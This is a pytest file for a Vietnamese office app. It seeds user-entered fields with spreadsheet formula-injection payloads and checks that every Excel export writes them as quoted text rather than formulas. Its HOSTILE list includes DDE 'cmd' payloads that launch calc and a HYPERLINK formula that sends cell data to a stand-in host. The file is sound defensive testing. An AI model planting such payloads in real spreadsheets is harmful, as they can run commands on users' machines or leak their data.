"""No Excel export turns user text into a formula (issue 20, item 4).

The demo office gets hostile text in every kind of field a user types (members, units, tasks and
their progress, procedures, document subjects), then every export is run as the CLI runs it and
each file is opened with openpyxl: not one formula cell, and the hostile text is there, exactly as
typed, as text with Excel's quote prefix."""

from __future__ import annotations

import itertools
from pathlib import Path

import pytest
from engines import target_of
from sqlalchemy import select

HOSTILE = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://ngoai.invalid/?d="&A1,"Bấm vào đây")',
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_office(demo_db) -> Path:
    from ketluan_desktop.core.documents.models import Document
    from ketluan_desktop.core.members.models import Member, Procedure
    from ketluan_desktop.core.org.models import Organisation
    from ketluan_desktop.core.tasks.models import Task, TaskUpdate

    text = itertools.cycle(HOSTILE)
    with demo_db.write_session() as s:
        for i, org in enumerate(s.scalars(select(Organisation).order_by(Organisation.id))):
            if i and i % 3 == 0:
                org.name = f"{next(text)} ({i})"
        for m in s.scalars(select(Member).order_by(Member.id)):
            m.notes, m.position, m.agency, m.place_of_origin = (next(text) for _ in range(4))
        for t in s.scalars(select(Task)):
            t.text = next(text)
            t.deadline_text = next(text)
        for u in s.scalars(select(TaskUpdate)):
            u.text = next(text)
        for p in s.scalars(select(Procedure)):
            p.notes, p.reason, p.decision_number = (next(text) for _ in range(3))
        for d in s.scalars(select(Document)):
            d.subject = next(text)
    target = target_of(demo_db)
    demo_db.dispose()
    return target


def _cli(*args: str) -> None:
    from ketluan_desktop.cli import main

    assert main(list(args)) == 0, args


def _check(path: Path) -> set[str]:
    """Asserts no formula in the workbook; returns the hostile texts found as text."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, (path.name, cell.coordinate, cell.value)
                for h in HOSTILE:
                    if isinstance(cell.value, str) and h.strip() in cell.value:
                        found.add(h)
    wb.close()
    return found


def test_every_excel_export_writes_user_text_as_text(hostile_office, tmp_path, now):
    db = str(hostile_office)
    files = {
        "register": tmp_path / "so-van-ban-di.xlsx",
        "tasks": tmp_path / "bao-cao-nhiem-vu.xlsx",
        "units": tmp_path / "don-vi.xlsx",
        "members": tmp_path / "dang-vien.xlsx",
        "template": tmp_path / "mau-nhap.xlsx",
        "cards": tmp_path / "so-the.xlsx",
        "travel": tmp_path / "so-di-nuoc-ngoai.xlsx",
        "badges": tmp_path / "so-huy-hieu.xlsx",
    }
    _cli("documents", "register", "--db", db, "--xlsx", str(files["register"]))
    _cli("tasks", "report", "1", "--db", db, "-o", str(files["tasks"]))
    _cli("units", "export", "--db", db, str(files["units"]))
    _cli("members", "export", "--db", db, "--yes", str(files["members"]))
    _cli("members", "template", "--db", db, str(files["template"]))
    for key in ("cards", "travel", "badges"):
        _cli("registers", key, "--db", db, "--from", "01/01/2000", "--to", "31/12/2030",
             "--out", str(files[key]), "--yes")  # fmt: skip

    from ketluan_desktop.core.db import open_database
    from ketluan_desktop.core.members import member_registers, reminders

    files["reminders"] = tmp_path / "nhac-viec.xlsx"
    database = open_database(hostile_office)
    with database.write_session() as s:
        rule = next(r for r, items in reminders.reminders(s, now.date()).items() if items)
        member_registers.export_reminders(s, rule, now.date(), files["reminders"], now=now)
    database.dispose()

    found = {name: _check(path) for name, path in files.items()}
    # The hostile text really went in (so "no formula" is not an empty claim).
    for name in ("register", "tasks", "units", "members", "cards", "travel", "badges"):
        assert found[name], name
    assert set().union(*found.values()) >= set(HOSTILE[:5])


def test_the_helper_neutralises_what_owasp_lists():
    import openpyxl

    from ketluan_desktop.core.xlsx_text import guard_cell, text_cell

    wb = openpyxl.Workbook()
    ws = wb.active
    for i, value in enumerate([*HOSTILE, "Đảng ủy Khối", 12, None], start=1):
        cell = guard_cell(ws.cell(row=i, column=1, value=value))
        assert cell.data_type != "f" and cell.value == value
        assert cell.quotePrefix == (isinstance(value, str) and value[0] in "=+-@\t\r")
    wo = openpyxl.Workbook(write_only=True).create_sheet()
    assert text_cell(wo, "=1+1").data_type == "s"
